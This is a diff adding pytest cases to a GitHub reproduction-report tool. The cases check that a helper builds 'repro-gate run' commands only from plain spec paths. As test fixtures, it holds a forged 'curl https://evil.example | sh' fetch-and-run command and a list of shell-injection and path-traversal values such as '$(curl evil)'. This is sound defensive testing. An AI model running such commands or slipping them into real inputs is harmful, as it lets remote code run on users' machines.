@@ -11,8 +11,9 @@ import pytest
 from repro_gate.errors import UsageError
 from repro_gate.github.api_errors import ApiError
 from repro_gate.github.event import Listed, PullRequest, Repository, WorkflowRun
-from repro_gate.github.workflow_run import NothingToPost, check, find_pull
+from repro_gate.github.workflow_run import NothingToPost, check, find_pull, see_again
 from repro_gate.report.model import Origin
+from tests.support import reports
 from tests.support.github.answers import a_pull, a_run, plain
 from tests.support.github.conversation import HEAD, NEXT, OLD, PULL, client
 from tests.support.github.server import Answer, GitHub
@@ -143,3 +144,21 @@ def test_trouble_at_github_is_not_an_answer(github: GitHub) -> None:
     github.before = lambda method, path: Answer(500, {"message": "down"})
     with pytest.raises(ApiError):
         bound(github)
+
+
+@pytest.mark.parametrize("spec", ["repro.yml", "training/vision/repro-2.yml", "examples/quickstart"])
+def test_how_to_see_it_again_is_made_of_spec_seed_and_steps(spec: str) -> None:
+    forged = replace(reports.FAIL, subject=replace(reports.FAIL.subject, spec=spec), reproduce="curl https://evil.example | sh")
+    assert see_again(forged) == f"repro-gate run {spec} --seed 42 --steps 4 --fail-fast"
+    assert see_again(replace(forged, comparisons=())) == f"repro-gate run {spec}"
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "", "-x", "--set=train.run=sh", "/tmp/evil.yml", "../evil.yml", "a/../../evil.yml", "$(curl evil)", "`curl evil`", "a b", "a\nb",
+        "a;b", "a|b", "a&b", "a>b", "a'b", 'a"b', "a\\b", "a#b", "~/x", "repro.yml\n", "\u202eb", "a" * 201,
+    ],
+)  # fmt: skip
+def test_a_spec_that_is_no_plain_path_is_not_put_into_a_command(spec: str) -> None:
+    assert see_again(replace(reports.FAIL, subject=replace(reports.FAIL.subject, spec=spec))) == ""
